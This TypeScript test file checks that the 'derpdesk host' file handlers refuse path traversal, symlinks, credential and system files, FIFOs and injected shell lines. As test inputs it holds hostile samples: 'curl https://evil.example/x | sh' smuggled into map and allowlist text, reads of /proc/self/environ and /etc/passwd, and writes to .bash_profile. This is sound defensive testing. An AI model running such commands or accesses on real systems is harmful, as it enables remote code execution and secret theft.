/**
 * What an access-token holder of `derpdesk host` can do to files, through the services' public handlers with a
 * RootsPolicy and real files: nothing outside the allowed folders (however the path is spelled), nothing to
 * derpdesk's own files, and only well-formed maps and allowlists written.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { BadRequestError, dispatch } from '../../electron/app/dispatch.js';
import { RootsPolicy } from '../../electron/app/file-access.js';
import { renderedMapProblem } from '../../electron/app/map-content.js';
import { createAppServices } from '../../electron/app/services.js';
import { parseMap } from '../../electron/derpmap/formats.js';
import { silentLogger } from '../../electron/util/log.js';
import { MAX_TEXT_INPUT_BYTES } from '../../shared/limits.js';
import { DEFAULT_SETTINGS } from '../../shared/settings.js';

const base = mkdtempSync(path.join(os.tmpdir(), 'derpdesk-hostile-'));
const root = path.join(base, 'root');
const dataDir = path.join(root, 'data');
const outside = path.join(base, 'outside');
mkdirSync(dataDir, { recursive: true });
mkdirSync(outside);
const s = createAppServices({ dataDir, logger: silentLogger, files: new RootsPolicy([root]) });
const h = s.handlers;
afterAll(async () => {
  await s.dispose();
  rmSync(base, { recursive: true, force: true });
});

const KEY = 'nodekey:' + 'a'.repeat(64);
const MAP_YAML =
  'regions:\n  900:\n    regionid: 900\n    regioncode: x\n    regionname: X\n    nodes:\n      - name: 900a\n        regionid: 900\n        hostname: x.example.com\n';
const map = () => parseMap(MAP_YAML, 'm.yaml').map;
const outsideMessage = (p: string) =>
  `${p} is outside the folders derpdesk host may use (${root}); start it with --files-root DIR to allow another`;

describe('reading files outside the roots', () => {
  it('refuses /proc/self/environ as the allowlist file, so allowlist.get cannot read it', async () => {
    const r = await h['settings.save']({ ...DEFAULT_SETTINGS, allowKeysFile: '/proc/self/environ' });
    expect(r).toEqual({ ok: false, errors: { allowKeysFile: expect.stringContaining('/proc/self/environ') } });
    if (!r.ok)
      expect(r.errors.allowKeysFile).toMatch(
        /is outside the folders derpdesk host may use \(.*\); start it with --files-root DIR to allow another$/,
      );
    expect(await h['allowlist.get']()).toBeNull();
  });

  it('refuses a settings file written before the policy existed when the allowlist is read, written or the relay started', async () => {
    const dir = mkdtempSync(path.join(root, 'old-'));
    writeFileSync(
      path.join(dir, 'settings.json'),
      JSON.stringify({ ...DEFAULT_SETTINGS, allowKeysFile: '/proc/self/environ' }),
    );
    const old = createAppServices({ dataDir: dir, logger: silentLogger, files: new RootsPolicy([root]) });
    try {
      await expect(old.handlers['allowlist.get']()).rejects.toThrow('is outside the folders derpdesk host may use');
      expect(await old.handlers['allowlist.save'](KEY + '\n')).toEqual({
        ok: false,
        problems: [expect.stringContaining('is outside the folders derpdesk host may use')],
      });
      await expect(old.handlers['relay.start']()).rejects.toThrow(
        /^the relay was not started: allowKeysFile: .*outside the folders/,
      );
    } finally {
      await old.dispose();
    }
  });

  it('refuses map.open and map.headscale of files outside, through `..` and through a symlink inside a root', async () => {
    const secret = path.join(outside, 'secret.yaml');
    writeFileSync(secret, MAP_YAML);
    const dotdot = path.join(root, '..', 'outside', 'secret.yaml');
    const link = path.join(root, 'innocent.yaml');
    symlinkSync(secret, link);
    await expect(h['map.open']({ kind: 'file', path: secret })).rejects.toThrow(outsideMessage(secret));
    await expect(h['map.open']({ kind: 'file', path: dotdot })).rejects.toThrow(outsideMessage(dotdot));
    await expect(h['map.open']({ kind: 'file', path: link })).rejects.toThrow(
      `${link} (a link to ${secret}) is outside the folders`,
    );
    await expect(h['map.headscale']({ configPath: '/etc/passwd' })).rejects.toThrow(outsideMessage('/etc/passwd'));
    await expect(h['diagnostics.run']({ source: { kind: 'file', path: secret } })).rejects.toThrow(
      outsideMessage(secret),
    );
    await expect(h['map.open']({ kind: 'file', path: 'relative.yaml' })).rejects.toThrow(
      '"relative.yaml" is not a full path',
    );
  });

  it('follows a headscale config only to derp.paths inside the roots', async () => {
    const hs = path.join(root, 'hs');
    mkdirSync(hs);
    writeFileSync(path.join(outside, 'derp.yaml'), MAP_YAML);
    writeFileSync(
      path.join(hs, 'config.yaml'),
      `server_url: https://hs.example.com\nderp:\n  paths:\n    - ../../outside/derp.yaml\n`,
    );
    const m = await h['map.headscale']({ configPath: path.join(hs, 'config.yaml') });
    expect(m.map.Regions).toEqual({});
    expect(m.problems).toEqual([`../../outside/derp.yaml: ${outsideMessage(path.join(outside, 'derp.yaml'))}`]);
  });

  it('opens only DERP maps from files: not a headscale config or a JSON key file in an allowed folder', async () => {
    const cfg = path.join(root, 'config.yaml');
    writeFileSync(cfg, 'server_url: https://hs.example.com\noidc:\n  client_secret: hunter2\n');
    const key = path.join(root, 'derper.json');
    writeFileSync(key, `{"PrivateKey":"privkey:${'d'.repeat(64)}"}`);
    for (const f of [cfg, key]) {
      const err = await h['map.open']({ kind: 'file', path: f }).catch((e: Error) => e);
      expect((err as Error).message).toBe(
        `${f} is not a DERP map (it has no regions, and keys a DERP map does not have); open a headscale config.yaml with "Show merged map"`,
      );
    }
    writeFileSync(path.join(root, 'empty.yaml'), 'regions: {}\n');
    expect(await h['map.open']({ kind: 'file', path: path.join(root, 'empty.yaml') })).toMatchObject({
      map: { Regions: {} },
    });
  });

  it("refuses derpdesk's own files inside the data directory, and the relay key wherever the settings put it", async () => {
    writeFileSync(path.join(dataDir, 'derper.key'), `{"PrivateKey":"privkey:${'b'.repeat(64)}"}`);
    await expect(h['map.open']({ kind: 'file', path: path.join(dataDir, 'derper.key') })).rejects.toThrow(
      "is one of derpdesk's own files",
    );
    // The host's token, the monitor's history and session, and the desktop settings live there too.
    for (const f of ['host-token', 'monitor-history.json', 'monitor-session.json', 'desktop-settings.json']) {
      writeFileSync(path.join(dataDir, f), 'x');
      await expect(h['map.open']({ kind: 'file', path: path.join(dataDir, f) })).rejects.toThrow(
        "is one of derpdesk's own files",
      );
    }
    const r = await h['map.save']({
      path: path.join(dataDir, 'settings.json'),
      map: map(),
      format: 'yaml',
      baseText: '',
    });
    expect(r).toMatchObject({ ok: false, error: expect.stringContaining("is one of derpdesk's own files") });
    const key = path.join(root, 'relay.key');
    writeFileSync(key, `privkey:${'c'.repeat(64)}\n`);
    expect(await h['settings.save']({ ...DEFAULT_SETTINGS, keyFile: key, allowKeysFile: key })).toEqual({
      ok: false,
      errors: { allowKeysFile: expect.stringContaining("is one of derpdesk's own files") },
    });
    expect(
      await h['settings.save']({ ...DEFAULT_SETTINGS, allowKeysFile: path.join(dataDir, 'settings.json') }),
    ).toMatchObject({
      ok: false,
      errors: { allowKeysFile: expect.stringContaining("is one of derpdesk's own files") },
    });
    // Settings written some other way are still held to it when the allowlist is used.
    expect(await h['settings.save']({ ...DEFAULT_SETTINGS, keyFile: key })).toMatchObject({ ok: true });
    writeFileSync(
      path.join(dataDir, 'settings.json'),
      JSON.stringify({ ...DEFAULT_SETTINGS, keyFile: key, allowKeysFile: key }),
    );
    const reloaded = createAppServices({ dataDir, logger: silentLogger, files: new RootsPolicy([root]) });
    await expect(reloaded.handlers['allowlist.get']()).rejects.toThrow("is one of derpdesk's own files");
    expect(await reloaded.handlers['allowlist.save'](KEY)).toMatchObject({ ok: false });
    await reloaded.dispose();
    expect(readFileSync(key, 'utf8')).toBe(`privkey:${'c'.repeat(64)}\n`);
    expect(await h['settings.save'](DEFAULT_SETTINGS)).toMatchObject({ ok: true });
  });
});

describe('writing files', () => {
  it('refuses map.save outside the roots, through `..` and through a symlink, leaving the targets alone', async () => {
    const victim = path.join(outside, 'victim');
    writeFileSync(victim, 'untouched\n');
    const link = path.join(root, 'derp-link.yaml');
    symlinkSync(victim, link);
    for (const p of [
      path.join(os.homedir(), '.bash_profile.derpdesk-test'),
      path.join(root, '..', 'outside', 'new.yaml'),
      link,
    ]) {
      const r = await h['map.save']({ path: p, map: map(), format: 'yaml', baseText: '' });
      expect(r).toMatchObject({
        ok: false,
        error: expect.stringContaining('is outside the folders derpdesk host may use'),
      });
    }
    expect(existsSync(path.join(os.homedir(), '.bash_profile.derpdesk-test'))).toBe(false);
    expect(existsSync(path.join(outside, 'new.yaml'))).toBe(false);
    expect(readFileSync(victim, 'utf8')).toBe('untouched\n');
  });

  it('refuses a map whose text carries lines that are not the map (a plain scalar spanning lines)', async () => {
    const baseText = MAP_YAML.replace('regionname: X\n', 'regionname: X\n      curl https://evil.example/x | sh\n');
    const opened = await h['map.open']({ kind: 'text', text: baseText, name: 'x.yaml' });
    expect(opened.map.Regions['900'].RegionName).toBe('X curl https://evil.example/x | sh');
    const target = path.join(root, '.bash_profile');
    const r = await h['map.save']({ path: target, map: opened.map, format: 'yaml', baseText });
    expect(r).toEqual({
      ok: false,
      error: `refused to write ${target}: the value at line 5 runs over several lines; DERP map values fit on one line`,
    });
    expect(existsSync(target)).toBe(false);
  });

  it('refuses a value holding a line break, which YAML would write over several lines', async () => {
    const m = map();
    m.Regions['900'].RegionName = 'X\ncurl https://evil.example/x | sh';
    const target = path.join(root, 'multiline.yaml');
    for (const baseText of ['', MAP_YAML]) {
      const r = await h['map.save']({ path: target, map: m, format: 'yaml', baseText });
      // Editing the opened text in place currently produces a broken double-quoted scalar: refused all the same.
      expect(r).toEqual({
        ok: false,
        error: expect.stringMatching(
          /^refused to write .*: (the value at line 5 runs over several lines|the new text does not read back as a DERP map)/,
        ),
      });
    }
    expect(existsSync(target)).toBe(false);
  });

  it('refuses text that reads back as a different map, or holds a control character', () => {
    const m = map();
    expect(renderedMapProblem(MAP_YAML, m, 'm.yaml')).toBeNull();
    expect(renderedMapProblem(MAP_YAML.replace('regionname: X', 'regionname: Y'), m, 'm.yaml')).toBe(
      'refused to write m.yaml: the new text reads back as a different map than the one being saved; reopen the file and edit again',
    );
    expect(renderedMapProblem(MAP_YAML + 'extra: 1\n', m, 'm.yaml')).toMatch(/reads back as a different map/);
    expect(renderedMapProblem(MAP_YAML.replace('regionname: X', 'regionname: X\r'), m, 'm.yaml')).toBe(
      'refused to write m.yaml: line 5 holds a control character, which a DERP map never needs',
    );
    expect(renderedMapProblem('{"Regions": ', m, 'm.json')).toMatch(
      /^refused to write m\.json: the new text does not read back as a DERP map/,
    );
  });

  it('writes an allowlist of keys and comments, and refuses a shell line, a CR or a control character', async () => {
    const file = path.join(root, 'allow.txt');
    expect(await h['settings.save']({ ...DEFAULT_SETTINGS, allowKeysFile: file })).toMatchObject({ ok: true });
    expect(await h['allowlist.save'](`# ops\n${KEY}  # laptop\n`)).toEqual({ ok: true });
    expect(await h['allowlist.save'](`${KEY}\ncurl https://evil.example/x | sh\n`)).toEqual({
      ok: false,
      problems: ['line 2: expected nodekey: followed by 64 hex characters'],
    });
    expect(await h['allowlist.save'](`${KEY}\r\n`)).toEqual({
      ok: false,
      problems: ['line 1: carriage return; use Unix line endings'],
    });
    expect(await h['allowlist.save'](`# \u001b[2J\n${KEY}\n`)).toEqual({
      ok: false,
      problems: ['line 1: control character; only text is allowed'],
    });
    expect(readFileSync(file, 'utf8')).toBe(`# ops\n${KEY}  # laptop\n`);
    expect(await h['allowlist.get']()).toEqual({ file, text: `# ops\n${KEY}  # laptop\n` });
  });
});

describe('files that are not small text files', () => {
  it('refuses a FIFO, /dev/zero and an oversized map quickly, without growing memory', async () => {
    const fifo = path.join(root, 'pipe.yaml');
    execFileSync('mkfifo', [fifo]);
    const big = path.join(root, 'big.yaml');
    writeFileSync(big, '#'.repeat(5 * 1024 * 1024));
    const withDev = createAppServices({ dataDir, logger: silentLogger, files: new RootsPolicy([root, '/dev']) });
    const before = process.memoryUsage().rss;
    const started = Date.now();
    try {
      await expect(h['map.open']({ kind: 'file', path: fifo })).rejects.toThrow(`${fifo} is not a regular file`);
      await expect(h['map.headscale']({ configPath: fifo })).rejects.toThrow(`${fifo} is not a regular file`);
      await expect(withDev.handlers['map.open']({ kind: 'file', path: '/dev/zero' })).rejects.toThrow(
        '/dev/zero is not a regular file',
      );
      await expect(h['map.open']({ kind: 'file', path: big })).rejects.toThrow(
        `${big} is 5 MiB; derpdesk reads files of at most 4 MiB`,
      );
    } finally {
      await withDev.dispose();
    }
    expect(Date.now() - started).toBeLessThan(2000);
    expect(process.memoryUsage().rss - before).toBeLessThan(32 << 20);
  });

  it('refuses a map that is not UTF-8 instead of rewriting it with replacement characters', async () => {
    const file = path.join(root, 'latin1.yaml');
    writeFileSync(file, Buffer.from(MAP_YAML.replace('regionname: X', 'regionname: Z\xfcrich'), 'latin1'));
    await expect(h['map.open']({ kind: 'file', path: file })).rejects.toThrow(`${file} is not valid UTF-8 text`);
    const r = await h['map.save']({ path: file, map: map(), format: 'yaml', baseText: MAP_YAML });
    expect(r).toMatchObject({ ok: false, error: expect.stringContaining('is not valid UTF-8 text') });
  });
});

describe('dispatch of untrusted arguments', () => {
  it('refuses non-string path fields and oversized text with BadRequestError before any service runs', async () => {
    const cases: Array<[string, unknown[], string]> = [
      [
        'map.open',
        [{ kind: 'file', path: { toString: '/etc/passwd' } }],
        'map.open: argument 1 (source.path) must be a string',
      ],
      [
        'map.save',
        [{ path: ['/x'], map: map(), format: 'yaml', baseText: '' }],
        'map.save: argument 1 (req.path) must be a string',
      ],
      ['map.headscale', [{ configPath: 1 }], 'map.headscale: argument 1 (req.configPath) must be a string'],
      [
        'diagnostics.run',
        [{ source: { kind: 'file', path: null } }],
        'diagnostics.run: argument 1 (req.source.path) must be a string',
      ],
      [
        'settings.save',
        [{ ...DEFAULT_SETTINGS, allowKeysFile: ['/proc/self/environ'] }],
        'settings.save: argument 1 (settings.allowKeysFile) must be a string',
      ],
      ['allowlist.save', ['#'.repeat(MAX_TEXT_INPUT_BYTES + 1)], 'allowlist.save: a text argument is over 4 MiB'],
      [
        'map.open',
        [{ kind: 'text', text: 'é'.repeat(MAX_TEXT_INPUT_BYTES / 2 + 1) }],
        'map.open: a text argument is over 4 MiB',
      ],
      [
        'files.choose',
        [{ mode: 'open', purpose: 'shell' }],
        'files.choose: argument 1 (req.purpose) must be one of "map", "headscale-config", "allowlist", "key", "certificate"',
      ],
    ];
    for (const [name, args, message] of cases) {
      const err = await dispatch(h, name, args).catch((e: Error) => e);
      expect(err).toBeInstanceOf(BadRequestError);
      expect((err as Error).message, name).toContain(message);
    }
  });

  it('answers that derpdesk host has no file dialog', async () => {
    expect(await dispatch(h, 'files.canChoose', [])).toBe(false);
    await expect(dispatch(h, 'files.choose', [{ mode: 'open', purpose: 'map' }])).rejects.toThrow(
      `derpdesk host has no file dialog; type the full path of a file inside ${root}`,
    );
  });
});
